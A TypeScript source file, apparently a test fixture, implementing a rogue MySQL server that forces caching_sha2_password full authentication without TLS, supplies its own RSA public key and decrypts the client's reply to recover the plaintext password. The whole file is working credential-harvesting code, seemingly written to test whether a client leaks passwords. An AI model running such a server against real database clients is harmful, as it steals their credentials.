/**
 * A rogue MySQL server (a mistyped host, a spoofed address): it speaks just enough of the protocol
 * to ask for the password through caching_sha2_password's "full authentication" without TLS,
 * hands over its own RSA public key, and decrypts what comes back. It records whether the client
 * asked for the key and the password it recovered, if any.
 */
import { generateKeyPairSync, privateDecrypt, constants, randomBytes } from 'node:crypto';
import net from 'node:net';

const CAPS = 0x0001 | 0x0008 | 0x0200 | 0x2000 | 0x8000 | 0x80000 | 0x200000;

function packet(seq: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(4);
  head.writeUIntLE(payload.length, 0, 3);
  head[3] = seq;
  return Buffer.concat([head, payload]);
}

export class RogueMysql {
  private server!: net.Server;
  port = 0;
  askedForKey = false;
  recovered: string | null = null;
  private readonly keys = generateKeyPairSync('rsa', { modulusLength: 2048 });

  async start(): Promise<this> {
    this.server = net.createServer((s) => this.serve(s));
    await new Promise<void>((resolve) => this.server.listen(0, '127.0.0.1', resolve));
    this.port = (this.server.address() as net.AddressInfo).port;
    return this;
  }

  close(): Promise<void> {
    return new Promise((resolve) => this.server.close(() => resolve()));
  }

  private serve(socket: net.Socket): void {
    socket.on('error', () => undefined);
    const scramble = Buffer.from(randomBytes(20).map((b) => (b % 90) + 33));
    const hello = Buffer.concat([
      Buffer.from([0x0a]),
      Buffer.from('8.0.36\0'),
      Buffer.from([1, 0, 0, 0]),
      scramble.subarray(0, 8),
      Buffer.from([0]),
      Buffer.from([CAPS & 0xff, (CAPS >> 8) & 0xff, 0x21, 0x02, 0x00, (CAPS >> 16) & 0xff, (CAPS >> 24) & 0xff, 21]),
      Buffer.alloc(10),
      scramble.subarray(8),
      Buffer.from([0]),
      Buffer.from('caching_sha2_password\0'),
    ]);
    socket.write(packet(0, hello));
    let pending = Buffer.alloc(0);
    let step = 0;
    socket.on('data', (d: Buffer) => {
      pending = Buffer.concat([pending, d]);
      while (pending.length >= 4) {
        const len = pending.readUIntLE(0, 3);
        if (pending.length < 4 + len) return;
        const seq = pending[3];
        const body = pending.subarray(4, 4 + len);
        pending = pending.subarray(4 + len);
        step = this.answer(socket, step, seq, body, scramble);
      }
    });
  }

  /** One client packet; returns the next step. */
  private answer(socket: net.Socket, step: number, seq: number, body: Buffer, scramble: Buffer): number {
    const fullAuth = Buffer.from([0x01, 0x04]);
    if (step === 0) {
      // The handshake response: straight on with caching_sha2, or first switch the client to it.
      if (body.includes(Buffer.from('caching_sha2_password'))) {
        socket.write(packet(seq + 1, fullAuth));
        return 2;
      }
      socket.write(
        packet(
          seq + 1,
          Buffer.concat([Buffer.from([0xfe]), Buffer.from('caching_sha2_password\0'), scramble, Buffer.from([0])]),
        ),
      );
      return 1;
    }
    if (step === 1) {
      socket.write(packet(seq + 1, fullAuth));
      return 2;
    }
    if (step === 2) {
      if (body.length === 1 && body[0] === 0x02) {
        this.askedForKey = true;
        const pem = this.keys.publicKey.export({ type: 'spki', format: 'pem' });
        socket.write(packet(seq + 1, Buffer.concat([Buffer.from([0x01]), Buffer.from(pem)])));
        return 3;
      }
      return 2;
    }
    if (step === 3) {
      const plain = privateDecrypt(
        { key: this.keys.privateKey, padding: constants.RSA_PKCS1_OAEP_PADDING, oaepHash: 'sha1' },
        body,
      );
      const password = Buffer.from(plain.map((b, i) => b ^ scramble[i % scramble.length]));
      this.recovered = password.toString('utf8').replace(/\0$/, '');
      socket.destroy();
    }
    return 4;
  }
}
